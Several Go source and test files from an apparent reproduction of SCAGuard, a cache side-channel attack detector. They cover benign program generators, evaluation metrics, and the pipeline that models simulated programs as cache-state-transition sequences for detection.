		Mov(isa.R(isa.R3), isa.R(isa.R0)).
		Add(isa.R(isa.R3), isa.R(isa.R9)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(arr))).
		Add(isa.R(isa.R2), isa.Mem(isa.R4, 0)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.R(isa.R9)).
		Jl("pair").
		Shr(isa.R(isa.R9), isa.Imm(1)).
		Test(isa.R(isa.R9), isa.R(isa.R9)).
		Jne("level").
		Hlt()
	return b.MustBuild()
}

// genCopyLoop: memcpy-style block copy.
func genCopyLoop(name string, rng *rand.Rand) *isa.Program {
	n := 256 + rng.Intn(256)
	b := isa.NewBuilder(name, benignCodeBase)
	src := b.DataInit("src", uint64(n*8), randWords(rng, n, 1<<30), false)
	dst := b.Bytes("dst", uint64(n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("copy").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(src))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(dst))).
		Mov(isa.Mem(isa.R3, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("copy").
		Hlt()
	return b.MustBuild()
}
