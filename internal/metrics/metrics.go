// Package metrics provides the evaluation arithmetic of Section IV:
// multi-class confusion matrices, per-class and macro-averaged
// precision/recall/F1 (the quantities of Table VI and Fig. 5), and
// deterministic k-fold splits for the learning baselines' cross
// validation.
package metrics

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"
)

// Confusion is a multi-class confusion matrix keyed by label strings.
type Confusion struct {
	counts map[string]map[string]int // truth -> predicted -> count
	labels map[string]bool
}

// NewConfusion returns an empty matrix.
func NewConfusion() *Confusion {
	return &Confusion{
		counts: make(map[string]map[string]int),
		labels: make(map[string]bool),
	}
}

// Add records one classification outcome.
func (c *Confusion) Add(truth, predicted string) {
	row := c.counts[truth]
	if row == nil {
		row = make(map[string]int)
		c.counts[truth] = row
	}
	row[predicted]++
	c.labels[truth] = true
	c.labels[predicted] = true
}

// Labels returns every label seen, sorted.
func (c *Confusion) Labels() []string {
	out := make([]string, 0, len(c.labels))
	for l := range c.labels {
		out = append(out, l)
	}
	sort.Strings(out)
	return out
}

// Count returns the number of samples with the given truth predicted as
// the given label.
func (c *Confusion) Count(truth, predicted string) int {
	return c.counts[truth][predicted]
}

// Total returns the number of recorded outcomes.
func (c *Confusion) Total() int {
	n := 0
	for _, row := range c.counts {
		for _, v := range row {
			n += v
		}
	}
	return n
}

// Scores holds precision, recall and F1.
type Scores struct {
	Precision float64
	Recall    float64
	F1        float64
}

// String formats the scores as percentages.
func (s Scores) String() string {
	return fmt.Sprintf("P=%.2f%% R=%.2f%% F1=%.2f%%",
		s.Precision*100, s.Recall*100, s.F1*100)
}

// PerClass computes the one-vs-rest scores of a label. A class with no
// predicted (resp. actual) samples has precision (resp. recall) 0.
func (c *Confusion) PerClass(label string) Scores {
	var tp, fp, fn int
	for truth, row := range c.counts {
		for pred, n := range row {
			switch {
			case truth == label && pred == label:
				tp += n
			case truth != label && pred == label:
				fp += n
			case truth == label && pred != label:
				fn += n
			}
		}
	}
	return scoresFromCounts(tp, fp, fn)
}

func scoresFromCounts(tp, fp, fn int) Scores {
	var s Scores
	if tp+fp > 0 {
		s.Precision = float64(tp) / float64(tp+fp)
	}
	if tp+fn > 0 {
		s.Recall = float64(tp) / float64(tp+fn)
	}
	if s.Precision+s.Recall > 0 {
		s.F1 = 2 * s.Precision * s.Recall / (s.Precision + s.Recall)
	}
	return s
}

// Macro computes the macro average of the per-class scores over the
// classes that actually occur as ground truth. This is the averaging the
// paper's Table VI uses (classification over attack families).
func (c *Confusion) Macro() Scores {
	var sum Scores
	n := 0
	for truth := range c.counts {
		s := c.PerClass(truth)
		sum.Precision += s.Precision
		sum.Recall += s.Recall
		sum.F1 += s.F1
		n++
	}
	if n == 0 {
		return Scores{}
	}
	return Scores{
		Precision: sum.Precision / float64(n),
		Recall:    sum.Recall / float64(n),
		F1:        sum.F1 / float64(n),
	}
}

// Accuracy returns the fraction of correct predictions.
func (c *Confusion) Accuracy() float64 {
	total := c.Total()
	if total == 0 {
		return 0
	}
	correct := 0
	for truth, row := range c.counts {
		correct += row[truth]
	}
	return float64(correct) / float64(total)
}

// String renders the matrix as a table.
func (c *Confusion) String() string {
	labels := c.Labels()
	var b strings.Builder
	fmt.Fprintf(&b, "%-12s", "truth\\pred")
	for _, l := range labels {
		fmt.Fprintf(&b, "%10s", l)
	}
	b.WriteByte('\n')
	for _, t := range labels {
		fmt.Fprintf(&b, "%-12s", t)
		for _, p := range labels {
			fmt.Fprintf(&b, "%10d", c.Count(t, p))
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// KFold deterministically splits indices 0..n-1 into k folds after a
// seeded shuffle; fold i is returned as (train, test). Fold sizes differ
// by at most one.
func KFold(n, k int, seed int64) [][2][]int {
	if k <= 1 || n < k {
		return [][2][]int{{nil, nil}}
	}
	idx := rand.New(rand.NewSource(seed)).Perm(n)
	folds := make([][]int, k)
	for i, v := range idx {
		folds[i%k] = append(folds[i%k], v)
	}
	out := make([][2][]int, k)
	for i := 0; i < k; i++ {
		var train []int
		for j := 0; j < k; j++ {
			if j != i {
				train = append(train, folds[j]...)
			}
		}
		out[i] = [2][]int{train, folds[i]}
	}
	return out
}
