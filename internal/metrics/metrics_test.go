package metrics

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestConfusionBasics(t *testing.T) {
	c := NewConfusion()
	c.Add("a", "a")
	c.Add("a", "b")
	c.Add("b", "b")
	c.Add("b", "b")
	if c.Total() != 4 {
		t.Errorf("total = %d", c.Total())
	}
	if c.Count("a", "b") != 1 || c.Count("b", "a") != 0 {
		t.Error("counts wrong")
	}
	if got := c.Labels(); len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Errorf("labels = %v", got)
	}
	if acc := c.Accuracy(); acc != 0.75 {
		t.Errorf("accuracy = %v", acc)
	}
}

func TestPerClassScores(t *testing.T) {
	c := NewConfusion()
	// class a: tp=2, fp=1 (b predicted as a), fn=1 (a predicted as b)
	c.Add("a", "a")
	c.Add("a", "a")
	c.Add("a", "b")
	c.Add("b", "a")
	s := c.PerClass("a")
	if math.Abs(s.Precision-2.0/3) > 1e-12 {
		t.Errorf("precision = %v", s.Precision)
	}
	if math.Abs(s.Recall-2.0/3) > 1e-12 {
		t.Errorf("recall = %v", s.Recall)
	}
	if math.Abs(s.F1-2.0/3) > 1e-12 {
		t.Errorf("f1 = %v", s.F1)
	}
}

func TestPerfectAndZeroScores(t *testing.T) {
	c := NewConfusion()
	c.Add("x", "x")
	s := c.PerClass("x")
	if s.Precision != 1 || s.Recall != 1 || s.F1 != 1 {
		t.Errorf("perfect class = %+v", s)
	}
	// A label never predicted and never true scores zero.
	z := c.PerClass("zzz")
	if z.Precision != 0 || z.Recall != 0 || z.F1 != 0 {
		t.Errorf("absent class = %+v", z)
	}
	if NewConfusion().Macro() != (Scores{}) {
		t.Error("empty macro must be zero")
	}
	if NewConfusion().Accuracy() != 0 {
		t.Error("empty accuracy must be zero")
	}
}

func TestMacroAveragesOverTruthClasses(t *testing.T) {
	c := NewConfusion()
	c.Add("a", "a") // a perfect
	c.Add("b", "c") // b always wrong
	m := c.Macro()
	if math.Abs(m.Precision-0.5) > 1e-12 || math.Abs(m.Recall-0.5) > 1e-12 {
		t.Errorf("macro = %+v", m)
	}
}

func TestScoresString(t *testing.T) {
	s := Scores{Precision: 0.9664, Recall: 0.965, F1: 0.9652}
	out := s.String()
	if !strings.Contains(out, "96.64%") || !strings.Contains(out, "96.50%") {
		t.Errorf("String = %q", out)
	}
}

func TestConfusionString(t *testing.T) {
	c := NewConfusion()
	c.Add("atk", "ben")
	out := c.String()
	if !strings.Contains(out, "atk") || !strings.Contains(out, "ben") {
		t.Errorf("matrix render = %q", out)
	}
}

func TestKFold(t *testing.T) {
	folds := KFold(10, 3, 42)
	if len(folds) != 3 {
		t.Fatalf("folds = %d", len(folds))
	}
	seen := make(map[int]int)
	for _, f := range folds {
		train, test := f[0], f[1]
		if len(train)+len(test) != 10 {
			t.Errorf("fold sizes %d+%d != 10", len(train), len(test))
		}
		for _, i := range test {
			seen[i]++
		}
		// No overlap between train and test.
		inTest := make(map[int]bool)
		for _, i := range test {
			inTest[i] = true
		}
		for _, i := range train {
			if inTest[i] {
				t.Error("train/test overlap")
			}
		}
	}
	for i := 0; i < 10; i++ {
		if seen[i] != 1 {
			t.Errorf("index %d appears %d times as test", i, seen[i])
		}
	}
}

func TestKFoldDegenerate(t *testing.T) {
	if got := KFold(3, 1, 0); len(got) != 1 || got[0][0] != nil {
		t.Error("k<=1 must degenerate")
	}
	if got := KFold(2, 5, 0); len(got) != 1 {
		t.Error("n<k must degenerate")
	}
}

func TestKFoldDeterministic(t *testing.T) {
	a := KFold(20, 4, 7)
	b := KFold(20, 4, 7)
	for i := range a {
		if len(a[i][1]) != len(b[i][1]) {
			t.Fatal("nondeterministic folds")
		}
		for j := range a[i][1] {
			if a[i][1][j] != b[i][1][j] {
				t.Fatal("nondeterministic fold content")
			}
		}
	}
}

// Property: accuracy and all per-class scores stay in [0,1].
func TestScoreBounds(t *testing.T) {
	f := func(pairs [][2]uint8) bool {
		c := NewConfusion()
		labels := []string{"a", "b", "c", "d"}
		for _, p := range pairs {
			c.Add(labels[p[0]%4], labels[p[1]%4])
		}
		if acc := c.Accuracy(); acc < 0 || acc > 1 {
			return false
		}
		for _, l := range c.Labels() {
			s := c.PerClass(l)
			if s.Precision < 0 || s.Precision > 1 || s.Recall < 0 || s.Recall > 1 || s.F1 < 0 || s.F1 > 1 {
				return false
			}
		}
		m := c.Macro()
		return m.Precision >= 0 && m.Precision <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}
