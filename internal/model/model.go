// Package model implements SCAGuard's attack behavior modeling
// (Section III-A of the paper): it turns a binary program into a
// CST-BBS — a cache-state-transition enhanced basic block sequence.
//
// The pipeline is:
//
//  1. Recover the CFG (internal/cfg) and execute the program on the
//     simulated machine (internal/exec), collecting HPC events per
//     instruction address and the memory lines each instruction touched.
//  2. Identify potential attack-relevant BBs: blocks with a nonzero HPC
//     value (the sum of the 11 counted Table-I events mapped onto the
//     block's instruction addresses).
//  3. Refine using cache-set overlap: keep only blocks that touch a
//     cache set touched by at least one other block (during an attack,
//     some cache sets must be accessed multiple times by at least two
//     different blocks — flush vs reload, prime vs probe).
//  4. Connect the surviving blocks into an attack-relevant graph with
//     Algorithm 1 (see algorithm1.go).
//  5. Measure a cache state transition for every block of the graph in a
//     dedicated cache simulator (see cst.go) and flatten the graph into
//     a sequence ordered by first-execution time.
package model

import (
	"context"
	"fmt"
	"sort"

	"repro/internal/cache"
	"repro/internal/cfg"
	"repro/internal/exec"
	"repro/internal/faultinject"
	"repro/internal/graph"
	"repro/internal/hpc"
	"repro/internal/isa"
	"repro/internal/telemetry"
)

// Config tunes attack behavior modeling.
type Config struct {
	// Exec configures the data-collection run.
	Exec exec.Config
	// MeasureCache configures the dedicated cache simulator used for CST
	// measurement; zero value selects DefaultMeasureCache.
	MeasureCache cache.Config
	// MaxPathsPerPair bounds path enumeration between two relevant BBs.
	MaxPathsPerPair int
	// MaxPathLen bounds the length (in blocks) of enumerated paths.
	MaxPathLen int
	// MaxWeight is Algorithm 1's MAX constant for directly connected
	// relevant blocks.
	MaxWeight float64
	// Telemetry optionally records modeling counters and stage timings
	// (trace collection, attack-relevant BB extraction, CST simulation).
	// nil disables instrumentation at zero cost.
	Telemetry *telemetry.Collector
}

// DefaultMeasureCache is the cache simulator configuration used to
// measure CSTs: deliberately small (64 lines) so that a single basic
// block visibly moves the occupancy rates — a flush of one line, a
// reload of a dozen and a prime sweep of a hundred land at clearly
// different deltas, which is what makes the CSP distance discriminative.
func DefaultMeasureCache() cache.Config {
	return cache.Config{Name: "cst-measure", Sets: 16, Ways: 4, LineSize: 64, Policy: cache.LRU}
}

// DefaultConfig returns the modeling configuration used throughout the
// reproduction.
func DefaultConfig() Config {
	return Config{
		Exec:            exec.DefaultConfig(),
		MeasureCache:    DefaultMeasureCache(),
		MaxPathsPerPair: 64,
		MaxPathLen:      64,
		MaxWeight:       1e9,
	}
}

func (c Config) withDefaults() Config {
	if c.MeasureCache.Sets == 0 {
		c.MeasureCache = DefaultMeasureCache()
	}
	if c.MaxPathsPerPair == 0 {
		c.MaxPathsPerPair = 64
	}
	if c.MaxPathLen == 0 {
		c.MaxPathLen = 64
	}
	if c.MaxWeight == 0 {
		c.MaxWeight = 1e9
	}
	return c
}

// CST is one cache state transition S --b--> S' (Definition 4) plus the
// block information the similarity metric needs.
type CST struct {
	Leader uint64
	Before cache.State
	After  cache.State
	// NormInsns is the normalized instruction sequence of the block
	// (IS of Section III-B1).
	NormInsns []string
	// FirstCycle is when the block first executed; it orders the BBS.
	FirstCycle uint64
	// HPCValue is the block's summed HPC value.
	HPCValue uint64
}

// Delta returns P = (|AO-AO'| + |IO-IO'|)/2, the magnitude of cache
// change the CSP distance compares.
func (c CST) Delta() float64 {
	dAO := c.After.AO - c.Before.AO
	if dAO < 0 {
		dAO = -dAO
	}
	dIO := c.After.IO - c.Before.IO
	if dIO < 0 {
		dIO = -dIO
	}
	return (dAO + dIO) / 2
}

// CSTBBS is the attack behavior model: a sequence of cache state
// transitions in first-execution order (Definition 5).
type CSTBBS struct {
	Name string
	Seq  []CST
	// TimerReads counts the timestamp reads (RDTSCP) observed while
	// collecting the model. Every cache side-channel attack measures
	// time — it is the channel — so a target with zero timer reads
	// cannot be a CSCA; the detector uses this as a prerequisite.
	TimerReads uint64
}

// Len returns the sequence length.
func (s *CSTBBS) Len() int { return len(s.Seq) }

// Model is the full result of attack behavior modeling; it keeps the
// intermediate artefacts the evaluation (Table IV) reports on.
type Model struct {
	Name string
	CFG  *cfg.CFG
	// PotentialBBs is the step-1 result: leaders with nonzero HPC value.
	PotentialBBs []uint64
	// RelevantBBs is the step-2 result after cache-set overlap filtering.
	RelevantBBs []uint64
	// AttackGraph is the Algorithm-1 result; its nodes are the identified
	// attack-relevant blocks (#IAB in Table IV).
	AttackGraph *graph.Digraph
	// BBS is the flattened CST-BBS used for similarity comparison.
	BBS *CSTBBS
	// HPCByBB maps block leaders to HPC values (diagnostics/ablation).
	HPCByBB map[uint64]uint64
	// MemLinesByBB maps block leaders to the accessed line addresses.
	MemLinesByBB map[uint64][]uint64
	// TraceCycles records how long the collection run took (virtual).
	TraceCycles uint64
}

// IdentifiedBBs returns the attack-relevant blocks found by the pipeline
// (the nodes of the attack-relevant graph), sorted.
func (m *Model) IdentifiedBBs() []uint64 {
	out := m.AttackGraph.Nodes()
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Build models the attack behavior of prog. victim may be nil; when
// present it runs interleaved with prog on the shared cache (the setting
// Flush+Reload-style PoCs require).
func Build(prog *isa.Program, victim *isa.Program, config Config) (*Model, error) {
	return BuildCtx(context.Background(), prog, victim, config)
}

// BuildCtx is Build with cooperative cancellation: the context is
// checked at stage boundaries (before CFG recovery, before and after
// the simulation run, before CST measurement), so a cancelled or
// expired context aborts modeling between stages with the context's
// error. A background context takes the same path at no measurable
// cost. The interior stages themselves run to completion — cancellation
// is cooperative, not preemptive.
func BuildCtx(ctx context.Context, prog *isa.Program, victim *isa.Program, config Config) (*Model, error) {
	config = config.withDefaults()
	if prog == nil {
		return nil, fmt.Errorf("model: program is nil")
	}
	if err := faultinject.Fire(faultinject.ModelBuild, prog.Name); err != nil {
		return nil, fmt.Errorf("model: %w", err)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	tel := config.Telemetry
	buildStart := tel.Now()
	c, err := cfg.Build(prog)
	if err != nil {
		return nil, fmt.Errorf("model: cfg: %w", err)
	}
	machine, err := exec.NewMachine(config.Exec, prog, victim)
	if err != nil {
		return nil, fmt.Errorf("model: exec: %w", err)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	traceStart := tel.Now()
	trace := machine.Run()
	tel.ObserveSince(telemetry.StageTrace, traceStart)
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	m, err := buildFromTraceCtx(ctx, prog, c, trace, machine.Hierarchy().LLC().Config(), config)
	if err == nil {
		tel.Inc(telemetry.ModelBuilds)
		tel.ObserveSince(telemetry.StageModel, buildStart)
	}
	return m, err
}

// BuildFromTrace models attack behavior from an existing execution
// trace (collected with the LLC configuration llc), recovering the CFG
// from the program. It allows callers that already ran the program —
// e.g. the experiment harness, which shares one trace between SCAGuard
// and the baselines — to skip the second simulation.
func BuildFromTrace(prog *isa.Program, trace *exec.Trace, llc cache.Config, config Config) (*Model, error) {
	config = config.withDefaults()
	if prog == nil {
		return nil, fmt.Errorf("model: program is nil")
	}
	if trace == nil {
		return nil, fmt.Errorf("model: trace is nil")
	}
	c, err := cfg.Build(prog)
	if err != nil {
		return nil, fmt.Errorf("model: cfg: %w", err)
	}
	return buildFromTraceCtx(context.Background(), prog, c, trace, llc, config)
}

// buildFromTraceCtx is the deterministic part of the pipeline, split
// out for targeted testing. The context is observed once, before CST
// measurement (the only interior boundary left after the trace exists).
func buildFromTraceCtx(ctx context.Context, prog *isa.Program, c *cfg.CFG, trace *exec.Trace, llc cache.Config, config Config) (*Model, error) {
	return buildFromTraceWith(ctx, prog, c, trace, llc, config, normalizeBlock)
}

// normalizeBlock is the default (unmemoized) block normalizer.
func normalizeBlock(bb *cfg.BasicBlock) []string {
	return isa.NormalizeSeq(bb.Insns)
}

// buildFromTraceWith additionally takes the block normalizer, letting
// repeated-build callers (WindowBuilder) memoize normalization — it
// depends only on the static block, never on the trace. The returned
// slice is only read and appended onto a fresh slice, so sharing one
// across builds is safe.
func buildFromTraceWith(ctx context.Context, prog *isa.Program, c *cfg.CFG, trace *exec.Trace, llc cache.Config, config Config, normOf func(*cfg.BasicBlock) []string) (*Model, error) {
	tel := config.Telemetry
	extractStart := tel.Now()
	m := &Model{
		Name:         prog.Name,
		CFG:          c,
		HPCByBB:      make(map[uint64]uint64),
		MemLinesByBB: make(map[uint64][]uint64),
		TraceCycles:  trace.Cycles,
	}

	// Step 1: HPC values folded onto blocks.
	for addr, v := range trace.Bank.HPCValueByAddr() {
		if leader, ok := c.LeaderOf(addr); ok {
			m.HPCByBB[leader] += v
		}
	}
	for leader := range m.HPCByBB {
		m.PotentialBBs = append(m.PotentialBBs, leader)
	}
	sort.Slice(m.PotentialBBs, func(i, j int) bool { return m.PotentialBBs[i] < m.PotentialBBs[j] })

	// Collect accessed lines per potential block. MemLinesByBB holds the
	// union of loaded/stored and flushed lines (the paper's overlap
	// analysis includes flushed addresses); loadsByBB keeps only the
	// loads/stores so CST measurement can replay flushes as flushes.
	firstCycle := make(map[uint64]uint64)
	loadsByBB := make(map[uint64][]uint64)
	for _, leader := range m.PotentialBBs {
		bb := c.Blocks[leader]
		loadSet := make(map[uint64]struct{})
		unionSet := make(map[uint64]struct{})
		fc := uint64(1<<63 - 1)
		for _, in := range bb.Insns {
			if r := trace.ByAddr[in.Addr]; r != nil {
				for l := range r.MemLines {
					loadSet[l] = struct{}{}
					unionSet[l] = struct{}{}
				}
				for l := range r.FlushLines {
					unionSet[l] = struct{}{}
				}
				if r.ExecCount > 0 && r.FirstCycle < fc {
					fc = r.FirstCycle
				}
			}
		}
		m.MemLinesByBB[leader] = sortedLines(unionSet)
		loadsByBB[leader] = sortedLines(loadSet)
		firstCycle[leader] = fc
	}

	// Step 2: cache-set overlap filtering.
	measure := cache.MustNew(config.MeasureCache)
	llcCache := cache.MustNew(llc) // set-index function of the real LLC
	setUsers := make(map[int]map[uint64]struct{})
	for leader, lines := range m.MemLinesByBB {
		for _, l := range lines {
			si := llcCache.SetIndex(l)
			if setUsers[si] == nil {
				setUsers[si] = make(map[uint64]struct{})
			}
			setUsers[si][leader] = struct{}{}
		}
	}
	multiSets := make(map[int]bool)
	for si, users := range setUsers {
		if len(users) >= 2 {
			multiSets[si] = true
		}
	}
	for _, leader := range m.PotentialBBs {
		keep := false
		for _, l := range m.MemLinesByBB[leader] {
			if multiSets[llcCache.SetIndex(l)] {
				keep = true
				break
			}
		}
		if keep {
			m.RelevantBBs = append(m.RelevantBBs, leader)
		}
	}

	// Step 3: Algorithm 1 — attack-relevant graph construction.
	m.AttackGraph = BuildAttackGraph(c.G, c.EntryLeader(), m.RelevantBBs, m.HPCByBB, config)
	tel.ObserveSince(telemetry.StageBBExtract, extractStart)
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	if err := faultinject.Fire(faultinject.ModelCST, prog.Name); err != nil {
		return nil, fmt.Errorf("model: cst measurement: %w", err)
	}
	cstStart := tel.Now()

	// Step 4: CST measurement for every node of the attack-relevant
	// graph, then flattening by first execution time. Blocks pulled in by
	// path restoration may never have executed (or executed without
	// memory traffic); they get identity CSTs and sort by leader address
	// after the executed blocks.
	// Canonicalize the attack-relevant graph into chains: a run of blocks
	// where each has exactly one successor and the next exactly one
	// predecessor behaves as one straight-line unit. This fuses the
	// fragments that junk-code obfuscation splits a block into, so an
	// obfuscated variant flattens to nearly the same CST-BBS as its
	// original.
	execCount := func(leader uint64) uint64 {
		if r := trace.ByAddr[leader]; r != nil {
			return r.ExecCount
		}
		return 0
	}
	chains := straightChains(m.AttackGraph, execCount)
	type entry struct {
		cst      CST
		executed bool
	}
	entries := make([]entry, 0, len(chains))
	for _, chain := range chains {
		var loads, flushes []uint64
		var norm []string
		var hpcSum uint64
		fc := uint64(1<<63 - 1)
		executed := false
		for _, leader := range chain {
			bb := c.Blocks[leader]
			loads = append(loads, loadsByBB[leader]...)
			flushes = append(flushes, blockFlushLines(bb, trace)...)
			norm = append(norm, normOf(bb)...)
			hpcSum += m.HPCByBB[leader]
			if f, ok := firstCycle[leader]; ok && f != uint64(1<<63-1) {
				if f < fc {
					fc = f
				}
				executed = true
			} else if f2, ok2 := blockFirstCycle(bb, trace); ok2 {
				if f2 < fc {
					fc = f2
				}
				executed = true
			}
		}
		cst := MeasureCST(measure, dedupSorted(loads), dedupSorted(flushes))
		cst.Leader = chain[0]
		cst.NormInsns = norm
		cst.HPCValue = hpcSum
		if cst.HPCValue == 0 && cst.Delta() == 0 {
			// Connector chains restored by Algorithm 1 for control-flow
			// completeness carry no cache behavior; they stay in the
			// attack-relevant graph but would only add syntactic noise
			// to the similarity comparison, so the flattened CST-BBS
			// keeps the cache-active chains.
			continue
		}
		cst.FirstCycle = fc
		entries = append(entries, entry{cst: cst, executed: executed})
	}
	sort.SliceStable(entries, func(i, j int) bool {
		a, b := entries[i], entries[j]
		if a.executed != b.executed {
			return a.executed
		}
		if a.executed && a.cst.FirstCycle != b.cst.FirstCycle {
			return a.cst.FirstCycle < b.cst.FirstCycle
		}
		return a.cst.Leader < b.cst.Leader
	})
	bbs := &CSTBBS{Name: prog.Name, TimerReads: trace.Bank.Global()[hpc.Timestamp]}
	for _, e := range entries {
		bbs.Seq = append(bbs.Seq, e.cst)
	}
	m.BBS = bbs
	tel.ObserveSince(telemetry.StageCST, cstStart)
	return m, nil
}

// straightChains partitions the attack-relevant graph's nodes into
// maximal straight-line chains: consecutive nodes linked by an edge
// where the predecessor has out-degree one, the successor in-degree
// one, and both executed equally often (two fragments of one split
// block always share their execution count; blocks of different loop
// phases do not). Chains are returned in ascending order of their head
// leader; node order within a chain follows the control flow.
func straightChains(g *graph.Digraph, execCount func(uint64) uint64) [][]uint64 {
	nodes := g.Nodes()
	sort.Slice(nodes, func(i, j int) bool { return nodes[i] < nodes[j] })
	mergeable := func(a, b uint64) bool {
		return len(g.Succs(a)) == 1 && len(g.Preds(b)) == 1 &&
			execCount(a) > 0 && execCount(a) == execCount(b)
	}
	isHead := func(n uint64) bool {
		preds := g.Preds(n)
		if len(preds) != 1 {
			return true
		}
		return !mergeable(preds[0], n)
	}
	var chains [][]uint64
	visited := make(map[uint64]bool, len(nodes))
	for _, n := range nodes {
		if visited[n] || !isHead(n) {
			continue
		}
		chain := []uint64{n}
		visited[n] = true
		cur := n
		for {
			succs := g.Succs(cur)
			if len(succs) != 1 {
				break
			}
			next := succs[0]
			if visited[next] || !mergeable(cur, next) {
				break
			}
			chain = append(chain, next)
			visited[next] = true
			cur = next
		}
		chains = append(chains, chain)
	}
	// Nodes inside cycles (no head) — defensive; the restored graph is
	// built from acyclic paths, but cover it anyway.
	for _, n := range nodes {
		if !visited[n] {
			visited[n] = true
			chains = append(chains, []uint64{n})
		}
	}
	return chains
}

// dedupSorted sorts and deduplicates a line slice in place.
func dedupSorted(lines []uint64) []uint64 {
	sort.Slice(lines, func(i, j int) bool { return lines[i] < lines[j] })
	out := lines[:0]
	var last uint64
	for i, l := range lines {
		if i == 0 || l != last {
			out = append(out, l)
			last = l
		}
	}
	return out
}

// sortedLines converts a line set to a sorted slice.
func sortedLines(set map[uint64]struct{}) []uint64 {
	out := make([]uint64, 0, len(set))
	for l := range set {
		out = append(out, l)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// blockFlushLines returns the lines flushed by the block's instructions.
func blockFlushLines(bb *cfg.BasicBlock, trace *exec.Trace) []uint64 {
	set := make(map[uint64]struct{})
	for _, in := range bb.Insns {
		if r := trace.ByAddr[in.Addr]; r != nil {
			for l := range r.FlushLines {
				set[l] = struct{}{}
			}
		}
	}
	out := make([]uint64, 0, len(set))
	for l := range set {
		out = append(out, l)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// blockFirstCycle returns the earliest retirement cycle of any
// instruction of the block.
func blockFirstCycle(bb *cfg.BasicBlock, trace *exec.Trace) (uint64, bool) {
	best := uint64(1<<63 - 1)
	found := false
	for _, in := range bb.Insns {
		if r := trace.ByAddr[in.Addr]; r != nil && r.ExecCount > 0 {
			if r.FirstCycle < best {
				best = r.FirstCycle
			}
			found = true
		}
	}
	return best, found
}
