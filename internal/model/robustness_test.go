package model

import (
	"math/rand"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/exec"
	"repro/internal/mutate"
)

// The whole pipeline must stay total: arbitrary mutated/obfuscated
// corpus programs and arbitrary benign programs model without error and
// produce structurally valid results.
func TestPipelineTotalOverRandomCorpus(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	cfg := DefaultConfig()
	cfg.Exec = exec.DefaultConfig()
	cfg.Exec.MaxRetired = 150_000

	check := func(name string, m *Model, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if m.BBS == nil {
			t.Fatalf("%s: nil BBS", name)
		}
		for _, c := range m.BBS.Seq {
			if c.Before.AO+c.Before.IO > 1.0000001 || c.After.AO+c.After.IO > 1.0000001 {
				t.Errorf("%s: occupancy out of range: %+v", name, c)
			}
			if c.Delta() < 0 || c.Delta() > 1 {
				t.Errorf("%s: delta out of range: %v", name, c.Delta())
			}
		}
	}

	names := attacks.Names()
	for i := 0; i < 8; i++ {
		base, err := attacks.ByName(names[rng.Intn(len(names))], attacks.DefaultParams())
		if err != nil {
			t.Fatal(err)
		}
		var prog = base.Program
		switch rng.Intn(3) {
		case 0:
			prog, err = mutate.Mutate(prog, mutate.LightConfig(rng.Int63()))
		case 1:
			prog, err = mutate.Mutate(prog, mutate.ObfuscationConfig(rng.Int63()))
		}
		if err != nil {
			t.Fatal(err)
		}
		m, err := Build(prog, base.Victim, cfg)
		check(prog.Name, m, err)
	}

	for _, kind := range benign.Kinds() {
		for i := 0; i < 3; i++ {
			prog, err := benign.Random(kind, rng)
			if err != nil {
				t.Fatal(err)
			}
			m, err := Build(prog, nil, cfg)
			check(prog.Name, m, err)
		}
	}
}

// Modeling must be independent of whether the trace comes from Build's
// own machine or a caller-provided one with identical configuration.
func TestBuildFromTraceMatchesBuild(t *testing.T) {
	poc := attacks.FlushReloadIAIK(attacks.DefaultParams())
	cfg := DefaultConfig()
	direct, err := Build(poc.Program, poc.Victim, cfg)
	if err != nil {
		t.Fatal(err)
	}
	machine, err := exec.NewMachine(cfg.Exec, poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := machine.Run()
	viaTrace, err := BuildFromTrace(poc.Program, tr, machine.Hierarchy().LLC().Config(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if direct.BBS.Len() != viaTrace.BBS.Len() {
		t.Fatalf("BBS lengths differ: %d vs %d", direct.BBS.Len(), viaTrace.BBS.Len())
	}
	for i := range direct.BBS.Seq {
		a, b := direct.BBS.Seq[i], viaTrace.BBS.Seq[i]
		if a.Leader != b.Leader || a.Before != b.Before || a.After != b.After {
			t.Fatalf("CST %d differs", i)
		}
	}
}

func TestBuildFromTraceErrors(t *testing.T) {
	poc := attacks.FlushReloadIAIK(attacks.DefaultParams())
	if _, err := BuildFromTrace(nil, nil, DefaultMeasureCache(), DefaultConfig()); err == nil {
		t.Error("nil program must fail")
	}
	if _, err := BuildFromTrace(poc.Program, nil, DefaultMeasureCache(), DefaultConfig()); err == nil {
		t.Error("nil trace must fail")
	}
}
