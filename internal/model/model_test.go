package model

import (
	"testing"

	"repro/internal/cache"
	"repro/internal/exec"
	"repro/internal/graph"
	"repro/internal/isa"
)

func TestMeasureCSTReloadBlock(t *testing.T) {
	sim := cache.MustNew(DefaultMeasureCache())
	total := float64(sim.TotalLines())
	lines := []uint64{0, 64, 128, 192} // 4 distinct lines
	cst := MeasureCST(sim, lines, nil)
